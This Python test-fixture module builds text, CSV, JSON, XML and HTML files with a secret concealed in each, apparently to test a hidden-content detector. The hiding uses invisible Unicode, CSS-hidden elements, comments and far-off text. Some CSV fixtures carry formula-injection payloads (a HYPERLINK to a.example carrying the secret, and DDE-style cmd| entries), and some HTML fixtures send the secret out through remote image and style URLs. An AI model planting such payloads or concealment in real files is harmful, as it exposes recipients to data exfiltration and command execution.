"""Plain text, CSV, JSON, XML and web pages with something hidden in them."""

from __future__ import annotations

import base64
import io
import json
import zipfile
from collections.abc import Callable

from tests.planted import SECRET, TOKEN, clean, plant

_LETTER = "Dear Ms Bell,\n\nThank you for your request. We hold the figures.\n\nYours sincerely\n"
_LINE = "Thank you for your request."
Pair = tuple[bytes, bytes]


def _text(technique: str, name: str, hide: Callable[[str], str], where: str = "", plain: str = _LETTER) -> None:
    @plant(technique, name, where=where)
    def make() -> Pair:
        return hide(plain).encode(), plain.encode()


def _tags(text: str) -> str:
    return "".join(chr(0xE0000 + ord(one)) for one in text)


def _selectors(text: str) -> str:
    return "".join(chr(0xE0100 + ord(one) - 16) for one in text)


def _joiners(text: str) -> str:
    return "".join(f"{ord(one):08b}".replace("0", "\u200b").replace("1", "\u200c") for one in text)


def _trailing(text: str) -> str:
    bits = "".join(f"{ord(one):08b}" for one in SECRET)
    ends = [bits[at : at + 7].replace("0", " ").replace("1", "\t") for at in range(0, len(bits), 7)]
    return "".join(f"Line {number}.{end}\n" for number, end in enumerate(ends))


def _after(text: str) -> Callable[[str], str]:
    return lambda letter: letter.replace(_LINE, _LINE + text)


for _name, _hide, _where in (
    ("tags", _tags(SECRET), "line 3"),
    ("selectors", _selectors(SECRET), "line 3"),
    ("zero-width", _joiners(SECRET), "line 3"),
    ("word-joiner", "\u2060" + _joiners(SECRET), "line 3"),
    ("fillers", "\u3164" * 12 + _tags(SECRET), "line 3"),
):
    _text("invisible-characters", f"{_name}.txt", _after(_hide), _where)
_text("nul", "nul.txt", _after(f"\0{SECRET}"), "line 3")
_text("control-character", "backspace.txt", _after(SECRET + "\b" * len(SECRET) + " " + _LINE * 40), "line 3")
_text("terminal-code", "concealed.txt", _after(f"\x1b[8m{SECRET}\x1b[0m"), "line 3")
_text("bidirectional-control", "turned.txt", _after(f"\u202e{SECRET[::-1]}\u202c"), "line 3")
_text("far-text", "far-below.txt", lambda letter: letter + "\n" * 300 + SECRET + "\n", "line 306")
_text("far-text", "far-right.txt", _after(" " * 400 + SECRET), "line 3")
_text("far-text", "far-tabs.txt", _after("\t" * 60 + SECRET), "line 3")
_text("overwritten-line", "overwritten.txt", lambda letter: letter.replace("Dear", f"{SECRET}\rDear"), "line 1")
_text("trailing-space", "line-ends.txt", _trailing, "lines", "".join(f"Line {n}.\n" for n in range(40)))


@plant("embedded-object", "encoded.txt", where="line 6")
def encoded_file() -> Pair:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as package:
        package.writestr("staff.txt", SECRET)
    letters = base64.encodebytes(packed.getvalue()).decode()
    return (_LETTER + letters).encode(), _LETTER.encode()


# Tables

_TABLE = "Rank,Count,Rate\r\nSergeant,12,1.5\r\nConstable,40,-2.5\r\nInspector,7,+1%\r\n"


def _table(technique: str, name: str, planted: str, where: str = "", plain: str = _TABLE) -> None:
    @plant(technique, name, where=where)
    def make() -> Pair:
        return planted.encode(), plain.encode()


_table("ragged-row", "right.csv", _TABLE.replace("40,-2.5", "40,-2.5" + "," * 300 + SECRET), "row 3")
_table("ragged-row", "all-right.csv", _TABLE.replace("\r\n", "," * 60 + SECRET + "\r\n"), "row 1")
_table("far-cells", "below.csv", _TABLE + ",,\r\n" * 400 + f"{SECRET},1,2\r\n", "row 405")
_table(
    "formula-injection", "link.csv", _TABLE + f'=HYPERLINK("https://a.example/?{SECRET}"),1,2\r\n', "column A, row 5"
)
_table("formula-injection", "command.csv", _TABLE + f"1,@SUM(1)*cmd|'{SECRET}'!A0,2\r\n", "column B, row 5")
_table("formula-injection", "full-width.csv", _TABLE + f'" ＝cmd|""{SECRET}""!A1",1,2\r\n', "column A, row 5")
_table(
    "formula-injection", "semicolon.csv", _TABLE.replace(",", ";") + f'"=T(""{SECRET}"")";1;2\r\n', "column A, row 5"
)
_table("swallowed-rows", "quoted.csv", _TABLE + f'"Chief\r\nSuper,1,2\r\n{SECRET},3,4\r\nmore,5,6",1,2\r\n', "row 5")
_table("invisible-characters", "tags.csv", _TABLE.replace("12", "12" + _tags(SECRET)), "row 2, column B")
_table("far-text", "deep-cell.csv", _TABLE.replace("12", "12" + " " * 90 + SECRET), "row 2, column B")
_table("nul", "nul.csv", _TABLE.replace("12", "12\0" + SECRET), "row 2, column B")
_table("beyond-sheet", "long-cell.csv", _TABLE.replace("12", "x" * 32_767 + SECRET), "row 2, column B")


# JSON and XML

_JSON = {"force": "Northshire", "figures": [{"rank": "Sergeant", "count": 12}, {"rank": "Constable", "count": 40}]}


def _json(technique: str, name: str, change: Callable[[str], str], where: str = "") -> None:
    @plant(technique, name, where=where)
    def make() -> Pair:
        whole = json.dumps(_JSON, indent=1)
        return change(whole).encode(), whole.encode()


def _escaped(text: str) -> str:
    return "".join(f"\\u{ord(one):04x}" for one in text)


_json("duplicate-key", "twice.json", lambda t: t.replace('"force"', f'"force": "{SECRET}", "force"'), "force")
_json("trailing-data", "after.json", lambda t: f"{t} {SECRET}", "after the end")
_json("escaped-letters", "numbers.json", lambda t: t.replace("Northshire", _escaped(SECRET)), "line 2")
_json(
    "invisible-characters",
    "tags.json",
    lambda t: t.replace("Northshire", json.dumps("Northshire" + _tags(SECRET))[1:-1]),
    "force",
)


@plant("far-text", "below.json", where="line", cleanable=False)
def far_below_in_data() -> Pair:
    whole = json.dumps(_JSON, indent=1)
    return whole.replace('"figures"', "\n" * 200 + f'"x": "{SECRET}", "figures"').encode(), whole.encode()


_XML = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<force name="Northshire">\n  <rank count="12">Sergeant</rank>\n</force>\n'
)


def _xml(technique: str, name: str, planted: str, where: str = "") -> None:
    @plant(technique, name, where=where)
    def make() -> Pair:
        return planted.encode(), _XML.encode()


_xml("comment", "comment.xml", _XML.replace("</force>", f"<!-- {SECRET} --></force>"), "line 4")
_xml("comment", "comment-after.xml", f"{_XML}<!-- {SECRET} -->", "line 5")
_xml("processing-instruction", "instruction.xml", _XML.replace("</force>", f"<?note {SECRET}?></force>"), "line 4")
_xml("unknown-element", "unused.xml", _XML.replace("<force ", f'<force xmlns:x="urn:{TOKEN}" '), "force")
_xml(
    "escaped-letters",
    "numbers.xml",
    _XML.replace("</force>", "<note>" + "".join(f"&#{ord(one)};" for one in SECRET) + "</note></force>"),
)
_xml(
    "remote-part",
    "include.xml",
    _XML.replace("</force>", f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="{SECRET}"/></force>'),
    "include",
)


# Web pages

_PAGE = (
    '<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8"><title>Figures</title>'
    "<style>th { color: #fff; background: #1d70b8 } .note { font-size: 14px }</style></head>\n"
    '<body><h1>Figures</h1>\n<p class="note">Seen words.</p>\n<table><tr><th>Rank</th></tr><tr><td>12</td></tr></table>\n'
    "</body></html>\n"
)


def _page(technique: str, name: str, more: str, where: str = "line 6", style: str = "") -> None:
    @plant(technique, name, where=where)
    def make() -> Pair:
        page = _PAGE.replace("</body>", f"{more}\n</body>").replace("</style>", f"{style}</style>")
        return page.encode(), _PAGE.encode()


for _number, _style in enumerate(
    (
        "display:none",
        "DISPLAY : NONE !important",
        "visibility:hidden",
        "visibility:collapse",
        "opacity:0",
        "opacity:.01",
        "color:#fff",
        "color:white",
        "color:rgb(255,255,254)",
        "color:transparent",
        "background:#000;color:#010101",
        "font-size:0",
        "font:0px/0 serif",
        "position:absolute;left:-9999px",
        "position:fixed;top:-5000px",
        "text-indent:-9999px",
        "margin-left:-5000px",
        "clip:rect(0,0,0,0);position:absolute",
        "height:0;overflow:hidden",
        "width:1px;height:1px;overflow:hidden",
        "max-height:0;overflow-y:hidden",
        "mso-hide:all",
        "content-visibility:hidden",
        "transform:scale(0)",
    )
):
    _page("hidden-text", f"style-{_number}.html", f'<div style="{_style}"><p>{SECRET}</p></div>')
for _number, _rule in enumerate(
    (
        ".x { display: none }",
        "body div#y > p { visibility: hidden }",
        "[data-x='1'] p, .x p { opacity: 0 }",
        "@media screen { .x { display:none } }",
        "p { color: black } .x p { color: #fefefe }",
    )
):
    _page("hidden-text", f"rule-{_number}.html", f'<div class="x" id="y"><p>{SECRET}</p></div>', style=_rule)
for _number, _element in enumerate(
    (
        f"<p hidden>{SECRET}</p>",
        f"<details><summary>More</summary><p>{SECRET}</p></details>",
        f"<noscript>{SECRET}</noscript>",
        f"<template><p>{SECRET}</p></template>",
        f'<iframe srcdoc="{SECRET}"></iframe>',
        f'<font color="#ffffff">{SECRET}</font>',
        f"<select><option selected>One</option><option>{SECRET}</option></select>",
        f"<video>{SECRET}</video>",
    )
):
    _page("hidden-text", f"element-{_number}.html", _element)
_page("tiny-text", "tiny.html", f'<p style="font-size:1px">{SECRET}</p>')
_page("tiny-text", "tiny-rule.html", f'<p class="q">{SECRET}</p>', style=".q { font: 2pt serif }")
_page("comment", "comment.html", f"<!-- {SECRET} -->")
_page("comment", "conditional.html", f"<!--[if mso]><p>{SECRET}</p><![endif]-->")
_page("comment", "style-comment.html", "", "style", style=f"/* {SECRET} */")
_page("macro", "script.html", f"<script>var a = '{SECRET}'</script>")
_page("macro", "event.html", f"<p onclick=\"a('{SECRET}')\">Seen</p>")
_page("hidden-attribute", "data.html", f'<p data-officer="{SECRET}">Seen</p>')
_page("hidden-attribute", "made-up.html", f'<p officer="{SECRET}">Seen</p>')
_page("hidden-attribute", "twice.html", f'<p class="a" class="{SECRET}">Seen</p>')
_page("hidden-attribute", "end-tag.html", f"<p>Seen</p {SECRET}>")
_page("generated-text", "generated.html", "<p>Seen</p>", "style", style=f"p.zz::after {{ content: '{SECRET}' }}")
_page("form-value", "hidden-field.html", f'<form><input type="hidden" name="a" value="{SECRET}"></form>')
_page("active-link", "javascript.html", f"<a href=\"javascript:a('{SECRET}')\">Seen</a>")
_page("remote-part", "fetched.html", f'<img src="https://a.example/{SECRET}.png" alt="">')
_page("remote-part", "fetched-style.html", "", "style", style=f"p {{ background: url(https://a.example/{SECRET}) }}")
_page("property", "author.html", f'<meta name="author" content="{SECRET}">')
_page("comment", "declaration.html", f"<!{SECRET}>")
_page("unknown-element", "element.html", f'<officer name="{SECRET}"></officer>')
_page(
    "embedded-object",
    "data-address.html",
    f'<img alt="" src="data:text/plain;base64,{base64.b64encode(SECRET.encode()).decode()}">',
)


@plant("hiding-style", "covered.html", where="line 7", cleanable=False)
def covered() -> Pair:
    more = (
        f'\n<p>{SECRET}</p><div style="position:absolute;top:0;background:#fff;width:900px;height:900px">Over it</div>'
    )
    return _PAGE.replace("</body>", f"{more}</body>").encode(), _PAGE.encode()


@clean("words.txt")
def many_scripts() -> bytes:
    text = "naïve café – “quoted” £5 👩‍👧 ✔️ 🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f می‌خواهم soft\u00adhyphen 10 µg\n"
    return b"\xef\xbb\xbf" + text.encode()


@clean("table.txt")
def padded_table() -> bytes:
    return (
        "".join(f"{name:<40}{count:>10}   \n" for name, count in (("Sergeant", 12), ("Constable", 4000))).encode() * 9
    )


@clean("signed.csv")
def signed_figures() -> bytes:
    return 'Year,Change,Share\r\n2024,-200,"-£1,200.50"\r\n2025,+5%,-\r\n2026,+44 7700 900123,"1,204"\r\n'.encode()


@clean("tabs.tsv")
def tabs() -> bytes:
    return b"Name\tCount\nOne\t1\nTwo, with a comma\t2\n"


@clean("lines.json")
def lines_of_json() -> bytes:
    return b'{"a": 1, "b": "\\u003cb\\u003e \\u00a3"}\n{"a": 2, "b": null}\n'


@clean("page.html")
def page() -> bytes:
    return _PAGE.encode()


# For a person to judge: they stay in the copy, where they are plain to see


def _judge(technique: str, name: str, planted: bytes, plain: bytes, where: str = "") -> None:
    @plant(technique, name, where=where, token="")
    def make() -> Pair:
        return planted, plain


_LINES = _LETTER.encode()
_judge("mixed-letters", "alphabets.txt", f"{_LETTER}The offic\u0435r was there.\n".encode(), _LINES, "line 6")
_judge("private-character", "bullet.txt", f"{_LETTER}\uf0b7 One\n".encode(), _LINES, "line 6")
_judge(
    "odd-spaces",
    "spaces.txt",
    _LETTER.replace(" ", "\u2003").replace("\u2003f", "\u2009f").encode() * 9 + "a\u200ab".encode(),
    _LINES,
)
_judge("long-line", "long.txt", _LINES + b"word " * 2_000, _LINES, "line 6")
_judge(
    "encoded-words", "base64.txt", _LINES + base64.b64encode(b"words that nobody reads so") + b"\n", _LINES, "line 6"
)
_judge("other-encoding", "windows.txt", f"{_LETTER}Café £5\n".encode("cp1252"), _LINES, "line 6")
_judge("duplicate-name", "names.csv", b"a,a\r\n1,2\r\n", b"a,b\r\n1,2\r\n", "columns A and B")
_judge("unnamed-column", "unnamed.csv", b"a,,c\r\n1,2,3\r\n", b"a,b,c\r\n1,2,3\r\n", "column B")
_judge("not-a-number", "numbers-only.json", b'{"a": NaN}', b'{"a": 1}')
_judge("link-differs", "elsewhere.html", b"<p><a href='https://a.example/x'>here</a></p>", b"<p>here</p>", "line 1, a")


@plant("wrong-encoding", "broken.txt", where="line 6", cleanable=False)
def wrong_encoding() -> Pair:
    return _LINES + b"cut \x81 and \x8d and \x90\n", _LINES


@plant("damaged-table", "damaged.csv", cleanable=False)
def damaged_table() -> Pair:
    return b'a,b\r\n1,"x\r\n', b"a,b\r\n1,x\r\n"
